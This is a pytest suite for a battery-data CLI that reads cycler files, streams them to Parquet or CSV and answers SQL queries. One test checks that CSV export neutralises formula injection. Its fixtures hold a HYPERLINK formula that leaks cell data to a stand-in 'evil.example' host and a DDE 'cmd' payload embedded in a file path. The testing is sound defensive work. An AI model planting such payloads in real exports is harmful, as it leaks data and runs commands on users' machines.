import csv
import io
import json
import subprocess
import sys

from pathlib import Path

import numpy as np
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from bigmap_assets import read
from bigmap_assets.cli import core, main
from bigmap_assets.warehouse import catalog
from bigmap_assets.warehouse.lake import Lake
import pyarrow as pa


def test_read_writes_the_canonical_table_with_its_metadata(realdata, tmp_path, capsys):
    source = realdata / "cycling" / "eclab" / "yadg" / "gcpl.issue_211.mpt"
    out = tmp_path / "out.parquet"
    assert main(["read", str(source), "-o", str(out)]) == 0
    table = pq.read_table(out)
    assert table.num_rows == 2767
    assert {"test_time_second", "voltage_volt", "current_ampere"} <= set(table.column_names)
    assert json.loads(table.schema.metadata[b"bigmap"])["format"] == "eclab_mpt"
    assert table.num_columns == 45

    assert main(["read", str(source), "-o", str(out), "--canonical-only"]) == 0
    narrow = pq.read_table(out)
    assert narrow.num_columns == 9 and narrow.num_rows == 2767
    assert narrow.column("voltage_volt").equals(table.column("voltage_volt"))


def test_unreadable_input_gives_one_line_naming_the_file_and_exit_2(tmp_path, capsys):
    garbage = tmp_path / "garbage.mpr"
    garbage.write_bytes(b"\x00\x01not a cycler file" * 100)
    assert main(["read", str(garbage)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and str(garbage) in err and "bigmap: error:" in err


def test_sql_prints_table_csv_and_json(tmp_path, capsys):
    lake = Lake(tmp_path / "warehouse" / "lake")
    lake.write("cycling_timeseries", pa.table({"sample_id": ["S1", "S1"], "test_time_second": [0.0, 1.0],
                                               "voltage_volt": [3.0, 3.1], "current_ampere": [0.0, 0.001]}),
               {"sample_id": "S1"})
    query = "SELECT sample_id, max(voltage_volt) AS v FROM cycling_timeseries GROUP BY 1"
    assert main(["sql", query, "--data-dir", str(tmp_path), "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines() == ["sample_id,v", "S1,3.1"]
    assert main(["sql", query, "--data-dir", str(tmp_path), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == [{"sample_id": "S1", "v": 3.1}]
    assert main(["sql", query, "--data-dir", str(tmp_path)]) == 0
    assert "(1 rows)" in capsys.readouterr().out


def test_each_command_is_defined_by_the_topic_it_loads_alone():
    from bigmap_assets.cli import TOPIC_OF, build_parser

    def commands(parser):
        return set(next(a for a in parser._actions if a.dest == "command").choices)

    assert commands(build_parser()) == set(TOPIC_OF)
    for command, topic in TOPIC_OF.items():
        assert commands(build_parser(command)) == {c for c, t in TOPIC_OF.items() if t == topic}


def test_sql_starts_without_the_readers_and_pandas(tmp_path):
    Lake(tmp_path / "warehouse" / "lake").write(
        "cycling_soh", pa.table({"sample_id": ["S1"], "checkup_index": [0], "soh": [1.0]}), {"sample_id": "S1"})
    script = ("import sys\nfrom bigmap_assets.cli import main\n"
              f"code = main(['sql', 'SELECT sample_id, soh FROM cycling_soh', '--data-dir', {str(tmp_path)!r}, "
              "'--format', 'csv'])\n"
              "print(code, 'pandas' in sys.modules, 'bigmap_assets.readers' in sys.modules)")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert done.stdout.splitlines() == ["sample_id,soh", "S1,1.0", "0 False False"], done.stderr


def test_sql_without_a_warehouse_says_so(tmp_path, capsys):
    assert main(["sql", "SELECT 1", "--data-dir", str(tmp_path)]) == 2
    assert "run `bigmap materialize` first" in capsys.readouterr().err


def test_the_installed_command_answers_help():
    out = subprocess.run([sys.executable, "-m", "bigmap_assets.cli", "--help"], capture_output=True, text=True)
    assert out.returncode == 0
    for command in ("read", "materialize", "sql", "issues"):
        assert command in out.stdout


def test_csv_export_escapes_formula_text_and_keeps_numbers(tmp_path, capsys):
    from bigmap_assets.ingest.admission import Issue, issues_table
    from bigmap_assets.ingest.registry import load_samples, samples_table

    (tmp_path / "registry").mkdir()
    (tmp_path / "registry" / "samples.csv").write_text(
        "sample_id,provider,batch,series,chemistry,active_mass_mg,timezone\n"
        'C1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",-B7,@SUM(A1),LNO,9.85,UTC\n')
    samples, issues = load_samples(tmp_path / "registry")
    assert issues == []
    lake = Lake(tmp_path / "warehouse" / "lake")
    lake.write("samples", samples_table(samples))
    lake.write("ingest_issues", issues_table([Issue("raw/cycling/C1/=cmd|' /C calc'!A0.mpt", "cycling", "-1 rows")]),
               {"technique": "cycling", "sample_id": "C1"})

    query = "SELECT provider, batch, series, chemistry, active_mass_mg, -active_mass_mg AS neg, '-12.5' AS text FROM samples"
    assert main(["sql", query, "--data-dir", str(tmp_path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1] == ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "'-B7", "'@SUM(A1)", "LNO",
                       "9.85", "-9.85", "-12.5"]
    assert main(["sql", query, "--data-dir", str(tmp_path), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["provider"].startswith("=HYPERLINK(")  # the tables keep the raw text

    assert main(["issues", "--data-dir", str(tmp_path), "--format", "csv"]) == 0
    [header, row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert dict(zip(header, row))["path"] == "raw/cycling/C1/=cmd|' /C calc'!A0.mpt"  # not at the start: as is
    assert dict(zip(header, row))["reason"] == "'-1 rows"


def test_spreadsheet_safe_quotes_every_formula_start_and_no_number():
    from bigmap_assets.cli.core import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("=1+1", "+x", "-x", "@x", "\tx", "\rx", "a=b", "", None)] == [
        "'=1+1", "'+x", "'-x", "'@x", "'\tx", "'\rx", "a=b", "", None]
    assert [spreadsheet_safe(v) for v in (-2.5, 3, "+1", "-1.5e-3", ".5")] == [-2.5, 3, "+1", "-1.5e-3", ".5"]


def test_read_refuses_a_fifo_a_folder_and_a_link_loop_in_one_line_without_waiting(tmp_path, capsys):
    import os

    os.mkfifo(tmp_path / "pipe.mpt")  # nobody writes: opening it to read would wait forever
    os.symlink("loop.mpt", tmp_path / "loop.mpt")
    out = subprocess.run([sys.executable, "-m", "bigmap_assets.cli", "read", str(tmp_path / "pipe.mpt")],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr == f"bigmap: error: {tmp_path / 'pipe.mpt'}: not a regular file: a FIFO (named pipe)\n"
    for target, reason in ((".", "not a regular file: a folder"), ("loop.mpt", "a symbolic link loop")):
        assert main(["read", str(tmp_path / target)]) == 2
        assert capsys.readouterr().err == f"bigmap: error: {tmp_path / target}: {reason}\n"


EXAMPLE_MPT = Path(__file__).resolve().parents[1] / "data" / "raw" / "cycling" / "LNO-LTD-B-02" / "LNO-LTD-B-02_C01.mpt"


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_read_streams_a_text_export_to_the_output_with_every_row(tmp_path, capsys, monkeypatch, suffix):
    monkeypatch.setattr(core, "STREAM_BATCH_ROWS", 500)  # the 3,857-row file in several batches
    whole = read(EXAMPLE_MPT)
    out = tmp_path / f"out{suffix}"
    assert main(["read", str(EXAMPLE_MPT), "-o", str(out)]) == 0
    assert capsys.readouterr().out.strip() == f"wrote {whole.num_rows} rows to {out}"
    written = pq.read_table(out) if suffix == ".parquet" else pacsv.read_csv(out)
    if suffix == ".parquet":
        assert pq.ParquetFile(out).metadata.num_row_groups > 1
        assert json.loads(written.schema.metadata[b"bigmap"])["streamed"] is True
    assert written.num_rows == whole.num_rows == 3914 - 57  # lines less the header
    assert written.column_names == whole.column_names
    for name in whole.column_names:
        column, expected = written.column(name).cast(whole.field(name).type), whole.column(name)
        if pa.types.is_floating(expected.type):  # capacities continued across batches: equal to rounding
            np.testing.assert_allclose(column.to_numpy(), expected.to_numpy(), rtol=1e-12, atol=1e-15, err_msg=name)
        else:
            assert column.equals(expected), name
    assert [p.name for p in tmp_path.iterdir()] == [out.name]  # no temporary file left


def test_read_writes_a_binary_file_whole(realdata, tmp_path, capsys):
    source = realdata / "cycling" / "neware" / "navani_test.ndax"  # not a streamed format
    whole = read(source)
    out = tmp_path / "out.parquet"
    assert main(["read", str(source), "-o", str(out)]) == 0
    assert capsys.readouterr().out.strip() == f"wrote {whole.num_rows} rows to {out}"
    assert pq.read_table(out).equals(whole)
    assert "streamed" not in json.loads(pq.read_schema(out).metadata[b"bigmap"])


def test_read_streams_an_mpr_to_the_output_and_counts_a_large_one_streamed(realdata, tmp_path, capsys, monkeypatch):
    source = realdata / "cycling" / "eclab" / "yadg" / "gcpl.issue_211.mpr"
    monkeypatch.setattr(core, "STREAM_BATCH_ROWS", 1000)
    whole = read(source)
    out = tmp_path / "out.parquet"
    assert main(["read", str(source), "-o", str(out)]) == 0
    assert capsys.readouterr().out.strip() == f"wrote {whole.num_rows} rows to {out}"
    assert pq.ParquetFile(out).metadata.num_row_groups == -(-whole.num_rows // 1000) > 1
    written = pq.read_table(out)
    assert written.column_names == whole.column_names
    for name in whole.column_names:
        column, expected = written.column(name), whole.column(name)
        if pa.types.is_floating(expected.type):  # capacities continued across batches: equal to rounding
            np.testing.assert_allclose(column.to_numpy(), expected.to_numpy(), rtol=1e-12, atol=1e-15, err_msg=name)
        else:
            assert column.equals(expected), name

    monkeypatch.setattr("bigmap_assets.ingest.cycling.LARGE_FILE_BYTES", 1)  # its summary streamed, as a large file's
    assert main(["read", str(source)]) == 0
    summary = capsys.readouterr().out
    assert summary.startswith(f"{source}: eclab_mpr (cycling), {whole.num_rows} rows\ncolumns: "
                              + ", ".join(whole.column_names) + "\n")
    assert json.loads(summary.split("\n", 2)[2])["streamed"] is True


def test_issues_lists_errors_and_counts_the_warnings_it_leaves_out(tmp_path, capsys):
    lake = Lake(tmp_path / "warehouse" / "lake")
    lake.write("ingest_issues", pa.table({
        "path": ["raw/cycling/S1/a.mpt", "raw/cycling/S1/b.mpt", "raw/cycling/S1/c.mpt"],
        "technique": ["cycling"] * 3, "sample_id": ["S1"] * 3,
        "severity": ["error", "warning", "warning"],
        "reason": ["no reader recognises this file", "not in the registry: timezone assumed UTC", "x"]}),
        {"technique": "cycling", "sample_id": "S1"})
    assert main(["issues", "--data-dir", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "a.mpt" in out and "b.mpt" not in out and "(1 rows)" in out
    assert out.splitlines()[-1].startswith("and 2 warning(s)") and "bigmap issues --all" in out
    assert main(["issues", "--data-dir", str(tmp_path), "--all"]) == 0
    out = capsys.readouterr().out
    assert "b.mpt" in out and "(3 rows)" in out and "warning(s)" not in out
